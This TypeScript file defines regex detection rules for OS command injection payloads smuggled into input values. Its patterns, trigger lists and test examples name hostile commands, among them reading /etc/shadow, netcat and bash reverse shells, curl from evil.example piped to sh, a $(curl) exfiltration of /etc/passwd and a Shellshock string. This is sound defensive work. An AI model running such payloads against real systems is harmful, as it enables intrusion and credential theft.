/** Shell commands smuggled into values. Whole command lines are the shell rules' concern. */
import type { Rule } from '../types.ts';
import { IN_OUTPUT } from './in-output.ts';
import { OUTPUT } from './taxonomy.ts';

const base = {
  ...IN_OUTPUT,
  type: 'command_injection',
  flags: 'im',
  taxonomy: [OUTPUT, 'CWE-78'],
  severity_reason: 'A program that hands the value to a shell runs the command.',
  references: [
    'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
  ],
} as const;
/** What reads secrets, calls out or opens a shell: telling after any separator. */
const TELLING = [
  '(?:/bin/)?(?:cat|less|more|head|tail|type)\\s{1,3}(?:/etc/(?:passwd|shadow)|/proc/self|~/\\.(?:ssh|aws)|[a-z]:\\\\windows)',
  '(?:nc|ncat|netcat)\\s[^\\n"&|;]{0,60}(?:-e|/bin/)',
  'bash\\s-i\\s',
  'bash\\s-c\\s{1,2}["\'](?:bash\\s-i|curl|wget|cat\\s/etc)',
  '(?:curl|wget)\\s[^\\n"|;&]{0,80}(?:@/etc/|\\$\\(|`|\\|\\s{0,2}(?:ba)?sh\\b|;\\s?chmod)',
  'wget\\s[^\\n"|;&]{0,80}-O\\s?/tmp',
  'mail\\s[^\\n"&|;]{0,60}<\\s?/etc/',
  '(?:python3?|perl|ruby|php)\\s-[cer]\\s{1,2}["\'][^"\'\\n]{0,40}(?:os\\.|exec|system|socket)',
  'echo\\s[\\w+/=]{4,400}\\s{0,2}\\|\\s{0,2}base64\\s-d',
  'net\\s{1,2}user\\s{1,2}\\w{1,20}\\s[^\\n"&|;]{0,30}/add',
  'nslookup\\s{1,2}\\$\\(',
  'rm\\s{1,2}-rf\\s{1,2}(?:/(?:\\s|$|["\'*#]|home|etc|root)|--no-preserve-root)',
  'powershell(?:\\.exe)?\\s{1,2}-(?:c|e|enc)\\b',
  'certutil\\s{1,2}-urlcache',
  'env\\s{0,2}\\|\\s{0,2}curl',
].join('|');
/** What only tells who or where one is: telling as the whole of a value. */
const PROBES =
  '(?:/usr)?(?:/bin/)?(?:id|whoami(?:\\s/all)?|uname(?:\\s-a)?|ifconfig|ipconfig(?:\\s/all)?|hostname|pwd|env|printenv|netstat(?:\\s-\\w{1,4})?|ls(?:\\s-\\w{1,3})?(?:\\s/\\w{0,20})?|ps(?:\\s-?aux)?|dir(?:\\s[a-z]:\\\\)?|sleep\\s\\d{1,3}|ping\\s-[cn]\\s\\d{1,3}[^\\n"]{0,40}|nslookup\\s\\S{1,60}|crontab\\s-l|shutdown\\s-h\\snow|kill\\s-9\\s-1|cat\\s/etc/[\\w/]{1,20}|touch\\s/tmp/\\w{1,20}|set|ver)';
/** A value that is no command: an address, a file, a name with a digit in it; or nothing. */
const VALUE = '(?:[\\w.-]{0,40}(?:\\.[\\w-]{2,6}|\\d)|-{2}\\w{2,20}(?:=[\\w/.-]{1,60})?|)';
/** The same, but not nothing: after a tag or in a cell. */
const TELLING_VALUE = VALUE.replace('|)', ')');
const CELL = '(?:</?[a-z]\\w{0,9}>|\\|\\s)';
const BEGINS = '(?:^|(?<=^|[:=(,[{\\s])["\']|=(?!\\s)|:\\s{1,2})';
/** After these no ordinary command line goes on: told after any separator, wherever the value began. */
const BLUNT =
  '(?:(?:/bin/)?cat\\s{1,3}(?:/etc/(?:passwd|shadow)|/proc/self/environ)|(?:nc|ncat)\\s[^\\n"|;]{0,60}-e\\s?/bin/|bash\\s-i\\s[>&]|mail\\s[^\\n"]{0,60}<\\s?/etc/|(?:python3?|perl|php)\\s-[cer]\\s{1,2}["\'](?:import os|exec|system)|echo\\s[\\w+/=]{4,400}\\s{0,2}\\|\\s{0,2}base64\\s-d\\s?\\|\\s?(?:ba)?sh)';
/** The value ends, or the line does. */
const ENDS = '(?=[;&#]?(?:\\s&|\\s\\|)?\\s{0,2}(?:$|["\'`<]|#|HTTP/|&&?\\s["\']))';
/** The whole of a text, or of a JSON string: one word, then the separator. */
const ALL_BEGINS = '(?:(?<![^])|":\\s{0,2}")[\\w.-]{1,40}\\s{0,2}';

export const commandPayloadRules: readonly Rule[] = [
  {
    ...base,
    id: 'command-injection',
    confidence: 0.8,
    description: 'A value that goes on as a shell command.',
    triggers: [';', '|', '&&', '|| ', '& '].flatMap((mark) =>
      [mark, `${mark} `].flatMap((lead) =>
        [
          'cat ',
          '/bin/',
          '/usr/bin/',
          'nc ',
          'bash ',
          'curl ',
          'wget ',
          'mail ',
          'python',
          'perl ',
          'php ',
          'ruby ',
          'echo ',
          'net ',
          'nslookup ',
          'rm -rf',
          'powershell',
          'certutil',
          'env',
          'less ',
          'head ',
          'tail ',
          'type ',
          'more ',
        ].map((word) => lead + word),
      ),
    ),
    pattern: `(?<=${BEGINS}[^\\s;|&"'$(){}\`=]{0,60}(?:["']|\\s{0,2}))[;|&]{1,2}\\s{0,3}(?:${TELLING})[^\\n]{0,160}|(?<=[\\s>]|^)[;|&]{1,2}\\s{0,2}${BLUNT}[^\\n]{0,160}|(?<=[^\\s;|&]);\\s${BLUNT}[^\\n]{0,160}`,
    examples: {
      match: [
        { text: '; cat /etc/passwd' },
        { text: '{"host":"8.8.8.8; cat /etc/shadow"}' },
        { text: 'a.png && curl http://evil.example/x.sh | sh' },
      ],
      no_match: [
        { text: 'cd build && cmake .. && make -j4' },
        { text: 'ps aux | grep node' },
        { text: 'The command cat /etc/passwd shows the users.' },
        { text: 'sudo apt-get update && curl -fsSL https://get.example.com | sh' },
      ],
    },
  },
  {
    ...base,
    id: 'command-probe',
    severity: 'MEDIUM',
    confidence: 0.7,
    description: 'A value that ends with a separator and a command which tells whether it ran.',
    triggers: [';', '|', '&'].flatMap((mark) =>
      ['', ' ', mark, `${mark} `].flatMap((rest) =>
        [
          'id',
          'whoami',
          'uname',
          'ifconfig',
          'ipconfig',
          'hostname',
          'printenv',
          'netstat',
          'ls',
          'dir',
          'sleep ',
          'ping ',
          'nslookup',
          'crontab',
          'shutdown',
          'kill -9',
          'touch /',
          '/bin/',
          '/usr/',
          'env',
          'ps',
          'cat /etc',
          'curl ',
          'wget ',
          'bash -i',
          'ip addr',
          'rm -rf ',
        ].map((word) => `${mark}${rest}${word}`),
      ),
    ),
    pattern: `(?<=(?:^|${CELL}|[:=]\\s{0,2}["']?)${TELLING_VALUE}["']?\\s{0,2})(?:;|&&?|\\|\\||(?<=>[\\w.-]{1,40}\\s{0,2})\\|)\\s{0,2}(?:(?:${PROBES}|bash\\s-i|ip\\saddr|rm\\s-rf\\s\\S{1,40})(?:\\s?;\\s?${PROBES})?${ENDS}|(?:curl|wget)\\s(?:-\\w{1,8}\\s){0,2}(?:https?://)?(?!localhost|127\\.|\\[|\\$)[\\w.-]{1,60}\\.[\\w./?=&%:-]{2,120}(?:\\s-{1,2}\\w[\\w-]{0,10}(?:\\s[\\w/.-]{1,40})?){0,3}${ENDS})|(?<=(?:^|[:=>|]\\s{0,2}|[:=]\\s?")[\\w.@-]{1,40}["']\\s{0,2})[;|&]{1,2}\\s{0,2}${PROBES}\\s{0,2}[;|&]{1,2}\\s{0,2}(?:echo|#|true|:|cat)|(?=[;|&]{1,2}\\s{0,2}(?:${PROBES})${ENDS})(?:(?<=${BEGINS}${VALUE}(?:["']\\s{0,2}|\\s{0,2}))|(?<=${ALL_BEGINS})(?=[;|&]{1,2}\\s{0,2}[^\\n"&]{2,60}&?\\s{0,2}(?:"|(?![^]))))[;|&]{1,2}\\s{0,2}(?:${PROBES})`,
    examples: {
      match: [
        { text: '127.0.0.1 && whoami' },
        { text: '{"file":"photo.jpg;id"}' },
        { text: 'x1; sleep 10' },
        { text: '<td>10.0.0.9 && whoami</td>' },
        { text: 'beacon" ; env ; echo "' },
      ],
      no_match: [
        { text: 'ls -1 | wc -l' },
        { text: 'cd dist\nmake; ls\ncd ..' },
        { text: 'a && sleep 5 && b' },
        { text: '&nbsp;id' },
        { text: 'first | id | name' },
        { text: '| 1.2 | id | env |' },
        { text: 'echo "$x"; pwd; echo "done"' },
      ],
    },
  },
  {
    ...base,
    id: 'command-substitution',
    confidence: 0.75,
    description: 'A command put in place of a value, or joined to one.',
    triggers: [
      '$(',
      '`id`',
      '`whoami`',
      '`cat /etc/',
      '`sleep ',
      '`nslookup',
      '`curl ',
      '`wget ',
      '`uname',
      '`hostname`',
      '`ls',
    ],
    pattern: [
      '\\$\\(\\s{0,2}(?:cat\\s{1,2}/etc/(?:passwd|shadow)|(?:curl|wget|nslookup|ping)\\s[^\\n]{0,100}(?:\\$\\(|`))[^\\n]{0,120}',
      '(?<=(?:^|</?[a-z]\\w{0,9}>|\\|\\s|"\\w{1,30}"\\s{0,2}:\\s{0,2}"|[a-z0-9])\'?)\\$\\((?:\\s{0,2}(?:id|whoami|env|hostname|uname(?:\\s-a)?|sleep\\s\\d{1,3}|cat\\s/etc/\\w{1,20}|curl\\s[^\\n)";]{4,80}|wget\\s[^\\n)";]{4,80})\\s{0,2};?){1,3}\\)(?=\'?(?:$|"[,}]|\\.[a-z]|<|\\s\\|))',
      '(?:(?<=^)|(?<="\\w{1,30}"\\s{0,2}:\\s{0,2}")|(?<=(?:^|["=:\\s])[\\w.-]{1,40}))`(?:id|whoami|uname(?:\\s-a)?|hostname|sleep\\s\\d{1,3}|cat\\s/etc/\\w{1,20}|ls(?:\\s-\\w{1,3})?|(?:curl|wget|nslookup)\\s[^`\\n]{4,80})`(?=$|"\\s{0,2}[,}]|<|\\s\\||\\.\\w{2,4}\\b)',
    ].join('|'),
    examples: {
      match: [
        { text: '{"name":"$(whoami)"}' },
        { text: 'name`id`' },
        { text: '$(curl -s http://evil.example/?d=$(cat /etc/passwd))' },
      ],
      no_match: [
        { text: 'VERSION=$(git describe --tags)' },
        { text: 'Use `id` as the key.' },
        { text: 'echo "$(whoami) logged in"' },
      ],
    },
  },
  {
    ...base,
    id: 'command-obfuscation',
    confidence: 0.85,
    description: 'A command written so that a filter does not know it, or an option that runs one.',
    triggers: [
      '${ifs}',
      '$ifs',
      '{cat,',
      '{echo,',
      '{curl,',
      '{wget,',
      '{base64,',
      '{bash,',
      '() {',
      "c'a't",
      'c"a"t',
      'c\\at',
      'w\\ho',
      'c?t ',
      '/e??/',
      '/???/',
      "wh''o",
      'who$@',
      '-oproxycommand',
      '--upload-pack=',
      '--use-askpass=',
      '-ofoo',
      '--output=/etc',
      '%0acat',
      '%0a/bin/',
      '%0a/usr/bin/',
      '%0aid',
      '%0awhoami',
      '%0awget',
      '%0acurl',
      '%0als',
      '%0aping',
      '%0asleep',
      '%0auname',
    ],
    pattern: [
      '%0a(?:/usr)?(?:/bin/)?(?:cat|id|whoami|wget|curl|ls|ping|sleep|uname)(?=$|[\\s"\'&;%+]|\\s-)[^\\s"]{0,120}',
      '(?<=(?:cat|ls|id|curl|wget|nc|;|\\||&))\\$\\{?IFS\\}?(?:\\$\\d)?[\\w/.-][^\\s]{0,100}',
      '\\{cat,/[\\w/,]{2,60}\\}',
      '\\{(?:echo,[\\w+/=]{4,400}|(?:curl|wget),[^{}\\s]{3,120}|base64,-d|bash,-[ic])\\}',
      '\\(\\)\\s{0,2}\\{\\s{0,2}:\\s{0,2};\\s{0,2}\\}\\s{0,2};[^\\n]{1,200}',
      "(?:c'a't|c\"a\"t|c\\\\{1,2}at|w\\\\{1,2}ho\\\\{0,2}ami|wh''oami|who\\$@ami)(?:\\s[^\\n]{0,80}|$|\")",
      '(?:/bin/c\\?t|/\\?\\?\\?/\\?{2,3}|/e\\?\\?/p)[^\\n]{0,60}',
      `(?<=${BEGINS}\\s{0,2})(?:-oProxyCommand=|--upload-pack=|--use-askpass=)[^\\n"]{2,120}`,
    ].join('|'),
    examples: {
      match: [
        { text: `;cat${'$'}{IFS}/etc/passwd` },
        { text: '() { :;}; echo vulnerable' },
        { text: ";c'a't /etc/passwd" },
      ],
      no_match: [
        { text: 'OLD_IFS=$IFS' },
        { text: 'while IFS= read -r line; do' },
        { text: 'function () { return 1; }' },
      ],
    },
  },
];
